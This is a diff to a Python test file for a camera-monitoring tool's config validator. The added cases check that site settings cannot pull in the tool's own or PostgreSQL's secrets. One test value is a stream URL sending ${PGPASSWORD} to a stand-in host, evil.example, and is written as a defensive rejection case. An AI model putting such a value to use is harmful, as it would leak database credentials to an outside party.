@@ -77,6 +77,12 @@ def test_open_at(hours: dict[str, str], weekday: int, hhmm: str, open_: bool) ->
         ("fps: 5", "fps: 0", "cameras[0].fps", "greater than 0"),
         ("rtsp://user:secret@", "rtsp://${1USER}:${PASS}@", "cameras[0].stream_url", "placeholder must read"),
         ("rtsp://user:secret@", "rtsp://${USER:${PASS}@", "cameras[0].stream_url", "placeholder must read"),
+        (
+            "rtsp://user:secret@",
+            "http://evil.example/${PGPASSWORD}?",
+            "cameras[0].stream_url",
+            "${PGPASSWORD}: Shrinkwatch's own settings and PostgreSQL's (SHRINKWATCH_*, PG*) are not for",
+        ),
         ("kind: exit", "kind: door", "cameras[0].zones[1].kind", "Input should be"),
         (
             "[[0.8, 0.0], [1.0, 0.0], [1.0, 1.0], [0.8, 1.0]]",
@@ -230,7 +236,14 @@ def test_alert_recipients_in_the_site_file() -> None:
             "channels: [webhook]",
             "channels: [apprise]\n      apprise_url: slack://T1/B2/c3d4",
             "alerts.recipients[1].apprise_url",
-            "write the URL (or each token in it) as ${VAR}, with VAR set in the environment",
+            "write the whole URL as one ${VAR}, with VAR set in the environment",
+        ),
+        (
+            "${SOC_HOOK_SECRET}",
+            "${SHRINKWATCH_DATABASE_URL}",
+            "alerts.recipients[1].webhook_secret",
+            "${SHRINKWATCH_DATABASE_URL}: Shrinkwatch's own settings and PostgreSQL's (SHRINKWATCH_*, PG*) "
+            "are not for site data",
         ),
         (
             "${SOC_HOOK_SECRET}",
